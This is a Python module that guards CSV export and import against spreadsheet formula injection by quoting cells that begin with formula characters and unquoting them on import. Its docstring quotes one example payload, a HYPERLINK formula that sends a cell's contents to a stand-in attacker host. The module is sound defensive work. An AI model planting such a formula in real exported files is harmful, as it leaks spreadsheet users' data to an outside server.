"""Spreadsheet formula injection (CWE-1236): cells a spreadsheet would run as a formula.

A CSV cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read
by Excel, LibreOffice and Google Sheets as a formula: a consent text such as
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would run when legal opens the
evidence. Every CSV the product writes goes through ``formula_safe`` (OWASP's advice: a
single quote in front, which spreadsheets show as text and do not display), and every CSV
it reads goes through ``formula_restored``, so the product's own files import again
exactly (a rejected-rows file, phone numbers like ``+19545550123`` included).

To keep that round trip exact for text that already starts with quotes before such a
character (``'=x``), one more quote is added there too, and one is taken off on reading.
A cell a person wrote as ``'+1954...`` therefore imports as ``+1954...``, which is what the
quote meant in the spreadsheet it came from. JSON lines are never changed: they are data,
not a sheet.
"""

from __future__ import annotations

#: What makes a spreadsheet read a cell as a formula (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: What ``formula_safe`` puts in front of such a cell.
QUOTE = "'"


def _runs_as_formula(text: str) -> bool:
    """True when ``text``, past any leading quotes, starts like a formula."""
    return text.lstrip(QUOTE).startswith(FORMULA_STARTS)


def formula_safe(cell: str) -> str:
    """``cell`` as a CSV the product writes holds it: a quote in front of formula starts."""
    return QUOTE + cell if _runs_as_formula(cell) else cell


def formula_restored(cell: str) -> str:
    """The text a cell written by ``formula_safe`` stood for (other cells unchanged)."""
    if cell.startswith(QUOTE) and _runs_as_formula(cell):
        return cell[1:]
    return cell


__all__ = ["FORMULA_STARTS", "QUOTE", "formula_restored", "formula_safe"]
